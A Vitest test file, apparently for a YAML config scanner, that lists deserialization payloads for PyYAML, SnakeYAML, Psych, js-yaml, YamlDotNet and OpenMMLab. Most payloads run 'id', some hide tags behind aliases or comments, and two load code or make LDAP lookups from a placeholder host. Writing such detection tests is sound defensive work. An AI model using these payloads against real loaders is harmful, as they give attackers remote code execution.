import { describe } from "vitest";
import { failing } from "./attack.js";

describe("an attack by YAML tags", () => {
  failing(
    [
      {
        hope: "eval is mapped (CVE-2020-14343)",
        bytes: () =>
          `!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ["__import__('os').system('id')"]\n`,
        least: "high",
      },
      {
        hope: "a text's state is a function (CVE-2020-1747)",
        bytes: () =>
          `!!python/object/new:str\nargs: []\nstate: !!python/tuple\n  - "__import__('os').system('id')"\n  - !!python/object/new:staticmethod\n    args: [0]\n    state:\n      update: !!python/name:exec\n`,
        least: "high",
      },
      {
        hope: "a type is made",
        bytes: () =>
          `!!python/object/new:type\nargs: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\nlistitems: "__import__('os').system('id')"\n`,
        least: "high",
      },
      { hope: "a module is imported by its name", bytes: () => "x: !!python/module:antigravity\n", least: "low" },
      {
        hope: "SnakeYAML loads classes from the net (CVE-2022-1471)",
        bytes: () =>
          '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]\n',
      },
      {
        hope: "SnakeYAML connects to a directory",
        bytes: () => '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://203.0.113.7/x", autoCommit: true}\n',
      },
      {
        hope: "Psych builds an installer",
        bytes: () => "- !ruby/object:Gem::Installer\n  i: x\n- !ruby/object:Gem::SpecFetcher\n  i: y\n",
      },
      {
        hope: "js-yaml makes a function",
        bytes: () => 'x: !!js/function \'function(){require("child_process").execSync("id")}()\'\n',
      },
      {
        hope: "YamlDotNet builds a process",
        bytes: () =>
          "!System.Windows.Data.ObjectDataProvider {MethodName: Start, ObjectInstance: !System.Diagnostics.Process {StartInfo: !System.Diagnostics.ProcessStartInfo {FileName: cmd, Arguments: /c id}}}\n",
      },
      {
        hope: "the tag stands on an alias's anchor",
        bytes: () => "a: &x !!python/object/apply:os.system ['id']\nb: *x\n",
        least: "high",
      },
      {
        hope: "the tag stands behind a comment and a fold",
        bytes: () => "a: # ok\n  !!python/object/apply:os.system\n  - >\n    id\n",
        least: "high",
      },
      {
        hope: "the tag stands in a block inside a literal's end",
        bytes: () => "a: |\n  text\nb: !!python/object/apply:os.system [id]\n",
        least: "high",
      },
      { hope: "a target is a list", bytes: () => "model:\n  target: os.system\n  command: id\n", least: "high" },
      {
        hope: "a configuration of OpenMMLab imports a module",
        bytes: () => "custom_imports:\n  imports: [os.system, evil.payload]\n  allow_failed_imports: false\n",
        least: "low",
      },
    ],
    "config.yaml",
  );
});
